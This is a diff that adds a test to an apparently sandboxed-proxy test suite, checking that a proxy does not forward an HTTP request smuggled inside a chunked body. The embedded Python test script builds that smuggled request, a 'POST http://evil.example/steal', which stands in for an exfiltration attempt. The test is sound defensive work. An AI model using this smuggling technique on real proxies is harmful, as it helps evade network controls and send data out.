@@ -127,6 +127,33 @@ describe.runIf(hasBubblewrap)('a program that was granted hosts, at level A', ()
     expect(asked).toEqual([`example.com:443 Basic ${Buffer.from('me:secret').toString('base64')}`]);
   });
 
+  it("smuggles no second request to the person's own proxy in the body of a first", async () => {
+    const asked: string[] = [];
+    const own = createServer((request, response) => {
+      asked.push(`${request.method} ${request.url}`);
+      request.resume().on('end', () => response.end('taken'));
+    });
+    const origin = `http://${at(await listen(own))}`;
+    const resolveName = async () => [{ address: '93.184.215.14', family: 4 }];
+    const context = { ...opened(), resolveName, proxies: { http: origin, https: origin } };
+    const smuggle = `
+import socket
+inner = b'POST http://evil.example/steal HTTP/1.1\\r\\nHost: evil.example\\r\\nContent-Length: 0\\r\\n\\r\\n'
+s = socket.create_connection(('127.0.0.1', 3128), 5)
+s.sendall(b'GET http://example.com/a HTTP/1.1\\r\\nHost: example.com\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n')
+s.sendall(hex(len(inner))[2:].encode() + b'\\r\\n' + inner + b'\\r\\n0\\r\\n\\r\\n')
+data = b''
+while True:
+    part = s.recv(4096)
+    if not part: break
+    data += part
+print(data.decode())
+`;
+    const { stdout } = await python(smuggle, ['example.com:80'], context);
+    expect(stdout).toContain('taken');
+    expect(asked).toEqual(['GET http://example.com/a']);
+  });
+
   it('reaches nothing past the proxy', async () => {
     const port = await greet('hello');
     const code = `
